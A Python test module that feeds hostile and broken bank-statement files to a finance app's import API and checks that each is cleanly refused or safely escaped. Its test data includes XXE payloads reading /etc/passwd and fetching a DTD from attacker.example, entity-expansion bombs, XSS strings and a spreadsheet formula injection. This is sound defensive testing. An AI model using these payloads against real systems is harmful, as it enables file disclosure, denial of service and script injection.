"""Hostile and broken statement files through the upload API: each refused by name, nothing written.

Every case is uploaded to the import API as a logged-in user with `account_name="Checking"`.
A CSV upload without a mapping answers with a preview; the case then confirms the detected
mapping, as the user would, so the whole file is read. Each case must end in a 4xx whose
JSON body names the problem, write no transaction and no account, and stay within a time and
a memory budget. Large payloads are generated here at run time, never committed.

A few hostile-but-valid files at the end must import, stored as text and escaped on the page.
"""

from __future__ import annotations

import functools
import json
import random
import struct
import time
import tracemalloc
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart

from accounts.models import Account
from transactions.models import Transaction

pytestmark = pytest.mark.django_db

UPLOAD_URL = "/api/v1/imports/"
MAX_SECONDS = 5.0
MAX_PEAK_BYTES = 256 * 1024 * 1024
MB = 1024 * 1024


# Builders ----------------------------------------------------------------------------------

SGML_HEADER = (
    b"OFXHEADER:100\r\nDATA:OFXSGML\r\nVERSION:102\r\nSECURITY:NONE\r\nENCODING:USASCII\r\n"
    b"CHARSET:1252\r\nCOMPRESSION:NONE\r\nOLDFILEUID:NONE\r\nNEWFILEUID:NONE\r\n\r\n"
)
XML_HEADER = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\r\n'
    b'<?OFX OFXHEADER="200" VERSION="220" SECURITY="NONE" OLDFILEUID="NONE" NEWFILEUID="NONE"?>\r\n'
)


def sgml_statement(*, trnamt: bytes = b"-40.00", dtposted: bytes = b"20261030", name: bytes = b"SHELL OIL") -> bytes:
    """An OFX 1.x (SGML) checking statement with one transaction, several lines per aggregate."""
    return SGML_HEADER + (
        b"<OFX>\r\n<SIGNONMSGSRSV1><SONRS><STATUS><CODE>0<SEVERITY>INFO</STATUS>\r\n"
        b"<DTSERVER>20261101<LANGUAGE>ENG</SONRS></SIGNONMSGSRSV1>\r\n"
        b"<BANKMSGSRSV1><STMTTRNRS><TRNUID>1<STATUS><CODE>0<SEVERITY>INFO</STATUS>\r\n"
        b"<STMTRS><CURDEF>USD<BANKACCTFROM><BANKID>121000248<ACCTID>000987654321<ACCTTYPE>CHECKING</BANKACCTFROM>\r\n"
        b"<BANKTRANLIST><DTSTART>20261001<DTEND>20261101\r\n"
        b"<STMTTRN><TRNTYPE>DEBIT<DTPOSTED>" + dtposted + b"<TRNAMT>" + trnamt + b"<FITID>A1\r\n"
        b"<NAME>" + name + b"</STMTTRN>\r\n"
        b"<STMTTRN><TRNTYPE>DEBIT<DTPOSTED>20261031<TRNAMT>-12.00<FITID>A2<NAME>BLUE BOTTLE</STMTTRN>\r\n"
        b"</BANKTRANLIST>\r\n<LEDGERBAL><BALAMT>0<DTASOF>20261101</LEDGERBAL></STMTRS></STMTTRNRS></BANKMSGSRSV1>\r\n"
        b"</OFX>\r\n"
    )


def xml_statement(prolog: bytes = b"", name: bytes = b"SHELL OIL") -> bytes:
    """An OFX 2.2 (XML) card statement with one transaction, `prolog` before its root element."""
    return (
        XML_HEADER + prolog + b"<OFX>\r\n<SIGNONMSGSRSV1><SONRS><STATUS><CODE>0</CODE><SEVERITY>INFO</SEVERITY>"
        b"</STATUS><DTSERVER>20261101</DTSERVER><LANGUAGE>ENG</LANGUAGE></SONRS></SIGNONMSGSRSV1>\r\n"
        b"<CREDITCARDMSGSRSV1><CCSTMTTRNRS><TRNUID>1</TRNUID><STATUS><CODE>0</CODE><SEVERITY>INFO</SEVERITY>"
        b"</STATUS>\r\n<CCSTMTRS><CURDEF>USD</CURDEF><CCACCTFROM><ACCTID>4000001234567899</ACCTID></CCACCTFROM>\r\n"
        b"<BANKTRANLIST><DTSTART>20261001</DTSTART><DTEND>20261101</DTEND>\r\n<STMTTRN><TRNTYPE>DEBIT</TRNTYPE>"
        b"<DTPOSTED>20261030</DTPOSTED><TRNAMT>-40.00</TRNAMT><FITID>A1</FITID><NAME>" + name + b"</NAME>"
        b"</STMTTRN>\r\n</BANKTRANLIST><LEDGERBAL><BALAMT>0</BALAMT><DTASOF>20261101</DTASOF></LEDGERBAL>\r\n"
        b"</CCSTMTRS></CCSTMTTRNRS></CREDITCARDMSGSRSV1>\r\n</OFX>\r\n"
    )


def csv_file(*rows: str, header: str = "Date,Description,Amount") -> bytes:
    return "".join(f"{line}\r\n" for line in (header, *rows)).encode()


def csv_amount(amount: str) -> bytes:
    return csv_file("2026-11-01,BLUE BOTTLE,-4.50", f"2026-11-02,SHELL OIL,{amount}")


def qif_file(*records: str, qif_type: str = "Bank") -> bytes:
    return (f"!Type:{qif_type}\n" + "".join(f"{record}\n^\n" for record in records)).encode()


LAUGHS = b"".join(
    b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10 if level else b"lol") for level in range(10)
)


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    pixels = zlib.compress(b"\x00\xff\xff\xff")
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


# Large payloads: cached, so each is built once per module (and freed after it, see `_free_large`).


@functools.cache
def fifty_megabytes() -> bytes:
    return csv_file(*["2026-11-01,BLUE BOTTLE COFFEE #123 SAN FRANCISCO CA,-4.50"] * (50 * MB // 58))


@functools.cache
def million_line_csv() -> bytes:
    # Nine bytes a line, so a million lines stay under the 10 MB upload limit and reach the parser.
    return b"Date,Amount\n" + b"1/2/26,1\n" * 1_000_000


@functools.cache
def random_binary() -> bytes:
    return random.Random(20261101).randbytes(64 * 1024)


@functools.cache
def nested_ofx() -> bytes:
    return XML_HEADER + b"<OFX>" + b"<A>" * 10_000 + b"</A>" * 10_000 + b"</OFX>"


@functools.cache
def six_hundred_thousand_elements() -> bytes:
    return SGML_HEADER + b"<OFX>" + b"<A>1" * 600_000 + b"</OFX>"


@functools.cache
def quadratic_blowup() -> bytes:
    return xml_statement(b'<!DOCTYPE OFX [<!ENTITY a "' + b"a" * 50_000 + b'">]>', b"&a;" * 10_000)


LARGE_BUILDERS = (
    fifty_megabytes,
    million_line_csv,
    random_binary,
    nested_ofx,
    six_hundred_thousand_elements,
    quadratic_blowup,
)


def half(raw: bytes) -> bytes:
    return raw[: len(raw) // 2]


# The corpus --------------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    id: str
    filename: str
    build: Callable[[], bytes]
    fragment: str  # what the error message must say


CORPUS = [
    # XML attacks in OFX 2.x: refused before any parser sees them.
    Hostile(
        "ofx-xml-external-entity",
        "statement.ofx",
        lambda: xml_statement(b'<!DOCTYPE OFX [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', b"&xxe;"),
        "DTD or entity declarations",
    ),
    Hostile(
        "ofx-xml-billion-laughs",
        "statement.ofx",
        lambda: xml_statement(b"<!DOCTYPE OFX [" + LAUGHS + b"]>", b"&lol9;"),
        "DTD or entity declarations",
    ),
    Hostile("ofx-xml-quadratic-blowup", "statement.qfx", quadratic_blowup, "DTD or entity declarations"),
    Hostile(
        "ofx-xml-parameter-entities",
        "statement.ofx",
        lambda: xml_statement(b'<!DOCTYPE OFX [<!ENTITY % p SYSTEM "https://attacker.example/p.dtd"> %p;]>'),
        "DTD or entity declarations",
    ),
    Hostile("ofx-xml-bare-doctype", "statement.ofx", lambda: xml_statement(b"<!DOCTYPE OFX>"), "DTD"),
    # Size.
    Hostile("upload-50-mb", "statement.csv", fifty_megabytes, "larger than 10 MB"),
    Hostile("csv-million-lines", "statement.csv", million_line_csv, "more than 100,000 transactions"),
    # Encodings.
    Hostile(
        "csv-utf16-without-bom",
        "statement.csv",
        lambda: csv_file("2026-11-01,BLUE BOTTLE,-4.50").decode().encode("utf-16-le"),
        "UTF-16 text without a byte-order mark",
    ),
    Hostile(
        "csv-neither-utf8-nor-cp1252",
        "statement.csv",
        lambda: csv_file("2026-11-01,CAFE,-4.50").replace(b"CAFE", b"CAF\x81\x8d"),
        "neither UTF-8 nor Windows-1252",
    ),
    Hostile(
        "csv-utf8-bom-then-invalid-utf8",
        "statement.csv",
        lambda: b"\xef\xbb\xbf" + csv_file("2026-11-01,CAFE,-4.50").replace(b"CAFE", b"CAF\xc3"),
        "not valid UTF-8",
    ),
    # Truncated downloads.
    Hostile("ofx-sgml-truncated", "statement.ofx", lambda: half(sgml_statement()), "cut short"),
    Hostile("ofx-xml-truncated", "statement.qfx", lambda: half(xml_statement()), "cut short"),
    # Impossible dates.
    Hostile(
        "csv-date-feb-30",
        "statement.csv",
        lambda: csv_file("2026-11-01,BLUE BOTTLE,-4.50", "2026-02-30,SHELL OIL,-40.00"),
        "Line 3: '2026-02-30' is not a valid date",
    ),
    Hostile(
        "csv-date-month-13-day-45",
        "statement.csv",
        lambda: csv_file("11/01/2026,BLUE BOTTLE,-4.50", "13/45/2026,SHELL OIL,-40.00"),
        "Line 3: '13/45/2026' is not a valid date",
    ),
    Hostile(
        "qif-date-feb-30",
        "statement.qif",
        lambda: qif_file("D11/01/2026\nT-4.50\nPBLUE BOTTLE", "D2/30/2026\nT-40.00\nPSHELL OIL"),
        "Line 6: '2/30/2026' is not a valid date",
    ),
    # ofxtools' own wording ("Can't set STMTTRN.dtposted to 20260230: day is out of range for month").
    Hostile("ofx-date-feb-30", "statement.ofx", lambda: sgml_statement(dtposted=b"20260230"), "20260230: day is out"),
    # Impossible amounts.
    Hostile("csv-amount-1e309", "statement.csv", lambda: csv_amount("1e309"), "Line 3: '1e309' is not an amount"),
    Hostile("csv-amount-nan", "statement.csv", lambda: csv_amount("NaN"), "Line 3: 'NaN' is not an amount"),
    Hostile("csv-amount-inf", "statement.csv", lambda: csv_amount("inf"), "Line 3: 'inf' is not an amount"),
    Hostile(
        "csv-amount-minus-infinity",
        "statement.csv",
        lambda: csv_amount("-Infinity"),
        "Line 3: '-Infinity' is not an amount",
    ),
    Hostile(
        "csv-amount-fraction-of-a-cent",
        "statement.csv",
        lambda: csv_amount("12.345"),
        "Line 3: '12.345' has more than 2 decimal places",
    ),
    Hostile(
        "csv-amount-13-digits",
        "statement.csv",
        lambda: csv_amount("-1234567890123.00"),
        "Line 3: '-1234567890123.00' is too large",
    ),
    Hostile("ofx-amount-nan", "statement.ofx", lambda: sgml_statement(trnamt=b"NaN"), "is not a number"),
    Hostile("ofx-amount-1e309", "statement.ofx", lambda: sgml_statement(trnamt=b"1e309"), "too large"),
    # NUL bytes.
    Hostile(
        "csv-nul-bytes",
        "statement.csv",
        lambda: csv_file("2026-11-01,BLUE\x00BOTTLE,-4.50", "2026-11-02,SHELL OIL,-40.00"),
        "NUL bytes",
    ),
    Hostile("ofx-nul-bytes", "statement.ofx", lambda: sgml_statement(name=b"SHELL\x00OIL"), "NUL bytes"),
    # Nothing in it.
    Hostile("empty-file", "statement.csv", lambda: b"", "file is empty"),
    Hostile("whitespace-only", "statement.csv", lambda: b" \r\n\t\n  \n" * 100, "file is empty"),
    # Not a statement export at all.
    Hostile(
        "pdf",
        "statement.pdf",
        lambda: b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
        "Unsupported file type (a PDF document)",
    ),
    Hostile(
        "xlsx-zip-named-csv",
        "statement.csv",
        lambda: b"PK\x03\x04\x14\x00\x06\x00" + b"[Content_Types].xml" + b"\x00" * 64,
        "Excel workbook or another zip archive",
    ),
    Hostile("png", "statement.png", png, "Unsupported file type '.png'"),
    # Misleading: a PNG is called "text without delimited columns" (only PDF, zip and OLE are recognised).
    Hostile("png-named-csv", "statement.csv", png, "Unsupported file type (text without delimited columns)"),
    Hostile("random-binary", "statement.qif", random_binary, "NUL bytes"),
    Hostile(
        "html-named-csv",
        "statement.csv",
        lambda: (
            b"<!DOCTYPE html>\n<html><head><title>Sign in</title></head>\n"
            b"<body><form><input name=user><input name=password type=password></form></body></html>\n"
        ),
        "Unsupported file type (text without delimited columns)",  # vague: it does not say "a web page"
    ),
    Hostile(
        "json-named-csv",
        "statement.csv",
        lambda: json.dumps(
            {"transactions": [{"date": "2026-11-01", "amount": -4.5, "description": "BLUE BOTTLE"}]}, indent=2
        ).encode(),
        "holds no transactions",  # misleading: it reads as an empty period's export, not as "this is JSON"
    ),
    # CSV without a usable table.
    Hostile(
        "csv-no-amount-column",
        "statement.csv",
        lambda: csv_file("2026-11-01,BLUE BOTTLE,100.00", header="Date,Description,Balance"),
        "No amount column",
    ),
    Hostile(
        "csv-no-date-column",
        "statement.csv",
        lambda: csv_file("BLUE BOTTLE,-4.50", "SHELL OIL,-40.00", header="Description,Amount"),
        "No date column",
    ),
    Hostile("csv-header-only", "statement.csv", lambda: csv_file(), "holds no transactions"),
    Hostile(
        "csv-one-column",
        "statement.csv",
        lambda: csv_file("2026-11-01", "2026-11-02", header="Date"),
        "text without delimited columns",
    ),
    Hostile(
        "csv-unterminated-quote",
        "statement.csv",
        lambda: csv_file("2026-11-01,BLUE BOTTLE,-4.50", '2026-11-02,"SHELL OIL,-40.00', "2026-11-03,CAFE,-3.00"),
        # Misleading: the open quote swallows the rest of the file into one cell, and the message
        # is "Line 3: the amount is empty." rather than naming the unclosed quote. The line is right.
        "Line 3: the amount is empty",
    ),
    Hostile(
        "csv-unquoted-delimiter-in-value",
        "statement.csv",
        lambda: csv_file("2026-11-01,BLUE BOTTLE,-4.50", "2026-11-02,SHELL, OIL,-40.00"),
        "Line 3 has 4 cells but the header has 3",
    ),
    # OFX built to exhaust the parser, or broken.
    Hostile("ofx-10000-nested-elements", "statement.ofx", nested_ofx, "nested more than 32 deep"),
    Hostile(
        "ofx-header-100-kb-of-spaces",
        "statement.ofx",
        lambda: b"OFXHEADER:100" + b" " * 100 * 1024 + sgml_statement()[len(b"OFXHEADER:100") :],
        "does not start with an OFX header",
    ),
    Hostile(
        "ofx-unclosed-cdata",
        "statement.ofx",
        lambda: sgml_statement(name=b"<![CDATA[SHELL OIL" + b"<A><![CDATA[x" * 1000),
        "CDATA section is not closed",
    ),
    Hostile("ofx-600000-elements", "statement.ofx", six_hundred_thousand_elements, "more than 500,000 elements"),
    Hostile(
        "ofx-signon-error-15500",
        "statement.ofx",
        lambda: sgml_statement().replace(
            b"<SONRS><STATUS><CODE>0<SEVERITY>INFO", b"<SONRS><STATUS><CODE>15500<SEVERITY>ERROR<MESSAGE>Bad login"
        ),
        "rejected the login",
    ),
    Hostile(
        "ofx-mismatched-end-tags",
        "statement.ofx",
        lambda: xml_statement().replace(b"</STMTTRN>\r\n</BANKTRANLIST>", b"</BANKTRANLIST>\r\n</STMTTRN>"),
        "</BANKTRANLIST> where </STMTTRN> was expected",
    ),
    Hostile(
        "ofx-no-statement",
        "statement.ofx",
        lambda: (
            XML_HEADER + b"<OFX><SIGNONMSGSRSV1><SONRS><STATUS><CODE>0</CODE><SEVERITY>INFO</SEVERITY>"
            b"</STATUS><DTSERVER>20261101</DTSERVER><LANGUAGE>ENG</LANGUAGE></SONRS></SIGNONMSGSRSV1></OFX>"
        ),
        "holds no bank, credit-card or investment statement",
    ),
    # QIF.
    Hostile(
        "qif-investment",
        "statement.qif",
        lambda: qif_file("D11/01/2026\nNBuy\nYVANGUARD TOTAL\nI250.00\nQ4\nT1000.00", qif_type="Invst"),
        "investment QIF is not supported",
    ),
    Hostile("qif-no-records", "statement.qif", lambda: b"!Type:Bank\n", "holds no transactions"),
    Hostile(
        "qif-amount-not-a-number",
        "statement.qif",
        lambda: qif_file("D11/01/2026\nTforty dollars\nPSHELL OIL"),
        "Line 3: 'forty dollars' is not an amount",
    ),
    Hostile(
        "qif-two-accounts",
        "statement.qif",
        lambda: qif_file("D11/01/2026\nT-4.50\nPBLUE BOTTLE") + qif_file("D11/02/2026\nT-1.00\nPX"),
        "more than one account",
    ),
]


# Measuring ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Measured:
    case: str
    seconds: float
    peak_bytes: int


MEASURED: list[Measured] = []


@pytest.fixture(scope="module", autouse=True)
def _free_large(request: pytest.FixtureRequest) -> Iterator[None]:
    """Frees the large payloads after the module, and prints the slowest and hungriest case."""
    MEASURED.clear()
    yield
    for builder in LARGE_BUILDERS:
        builder.cache_clear()
    if MEASURED:
        slowest = max(MEASURED, key=lambda m: m.seconds)
        hungriest = max(MEASURED, key=lambda m: m.peak_bytes)
        line = (
            f"hostile files: {len(MEASURED)} measured; slowest {slowest.case} {slowest.seconds:.2f} s; "
            f"largest peak {hungriest.case} {hungriest.peak_bytes / MB:.1f} MB (Python allocations)"
        )
        reporter = request.config.pluginmanager.get_plugin("terminalreporter")
        capture = request.config.pluginmanager.get_plugin("capturemanager")
        if reporter is not None and capture is not None:
            with capture.global_and_fixture_disabled():  # a summary line even when output is captured
                reporter.write_line("\n" + line)


def multipart(filename: str, raw: bytes) -> bytes:
    return encode_multipart(BOUNDARY, {"file": SimpleUploadedFile(filename, raw), "account_name": "Checking"})


def upload_and_confirm(client, body: bytes):
    """Upload as the import page does; a CSV answers with a preview, which the user then confirms."""
    response = client.generic("POST", UPLOAD_URL, body, MULTIPART_CONTENT)
    if response.status_code == 201 and response.json().get("preview") is not None:
        created = response.json()
        response = client.post(
            f"{UPLOAD_URL}{created['upload']['id']}/confirm",
            {"account_name": "Checking", "mapping": created["preview"]["mapping"]},
            format="json",
        )
    return response


@pytest.mark.parametrize("case", CORPUS, ids=[case.id for case in CORPUS])
def test_a_hostile_file_is_refused_by_name_and_writes_nothing(user_client, user, case: Hostile):
    body = multipart(case.filename, case.build())  # encoded by the client, outside the measurement

    # tracemalloc measures Python allocations only (not C buffers outside Python's allocator):
    # enough to catch a parser that builds a huge tree, string or list from a small file. The
    # time includes tracemalloc's own overhead, so it errs on the slow side.
    tracemalloc.start()
    started = time.monotonic()
    try:
        response = upload_and_confirm(user_client, body)
        seconds = time.monotonic() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    MEASURED.append(Measured(case.id, seconds, peak))

    text = response.content.decode()
    assert response.status_code in (400, 413), text[:500]
    assert response["Content-Type"] == "application/json", response["Content-Type"]
    assert case.fragment in json.dumps(response.json(), ensure_ascii=False), text[:500]
    assert "Traceback" not in text
    assert 'File "' not in text
    assert Transaction.objects.filter(user=user).count() == 0
    assert Account.objects.filter(user=user).count() == 0
    assert seconds < MAX_SECONDS, f"{seconds:.2f} s"
    assert peak < MAX_PEAK_BYTES, f"{peak / MB:.1f} MB"


def test_the_corpus_is_at_least_forty_distinct_files():
    assert len(CORPUS) >= 40
    assert len({case.id for case in CORPUS}) == len(CORPUS)


# Hostile but valid: these must import -------------------------------------------------------


def test_a_10000_character_payee_imports_cut_to_255(user_client, user, django_capture_on_commit_callbacks):
    raw = csv_file("2026-11-01," + "A" * 10_000 + ",-4.50")
    with django_capture_on_commit_callbacks(execute=True):
        response = upload_and_confirm(user_client, multipart("statement.csv", raw))

    assert response.status_code == 201, response.content[:500]
    assert response.json()["new"] == 1
    assert Transaction.objects.get(user=user).description == "A" * 255


PAYEES = {
    "<script>alert(1)</script>": "<script>alert(1)</script>",
    "javascript:alert(document.cookie)": "javascript:alert(document.cookie)",
    # White space, line breaks included, is collapsed when a description is read (csv_file.text_clean).
    '"CRLF\r\nINJECTED: yes"': "CRLF INJECTED: yes",
    "=cmd|' /C calc'!A0": "=cmd|' /C calc'!A0",
}


def test_markup_and_formula_payees_are_stored_as_text_and_escaped_on_the_page(
    user_client, client, user, django_capture_on_commit_callbacks
):
    raw = csv_file(*(f"2026-11-0{day},{payee},-{day}.00" for day, payee in enumerate(PAYEES, start=1)))
    with django_capture_on_commit_callbacks(execute=True):
        response = upload_and_confirm(user_client, multipart("statement.csv", raw))
    assert response.status_code == 201, response.content[:500]

    stored = set(Transaction.objects.filter(user=user).values_list("description", flat=True))
    assert stored == set(PAYEES.values())
    listed = user_client.get("/api/v1/transactions/").json()["results"]
    assert {row["description"] for row in listed} == stored  # JSON strings, unchanged

    client.force_login(user)
    page = client.get("/transactions/").content.decode()
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert 'href="javascript:' not in page
    assert "=cmd|&#x27; /C calc&#x27;!A0" in page


@pytest.mark.parametrize(
    ("encoding", "prefix"),
    [("cp1252", b""), ("utf-8", b"\xef\xbb\xbf"), ("utf-16-le", b"\xff\xfe")],
    ids=["cp1252", "utf-8-with-bom", "utf-16-with-bom"],
)
def test_other_encodings_import_with_their_characters(
    user_client, user, django_capture_on_commit_callbacks, encoding, prefix
):
    text = "Date,Description,Amount\r\n2026-11-01,CAFÉ CRÈME €,-4.50\r\n2026-11-02,MÜNCHEN Ø,-12.00\r\n"
    with django_capture_on_commit_callbacks(execute=True):
        response = upload_and_confirm(user_client, multipart("statement.csv", prefix + text.encode(encoding)))

    assert response.status_code == 201, response.content[:500]
    descriptions = set(Transaction.objects.filter(user=user).values_list("description", flat=True))
    assert descriptions == {"CAFÉ CRÈME €", "MÜNCHEN Ø"}
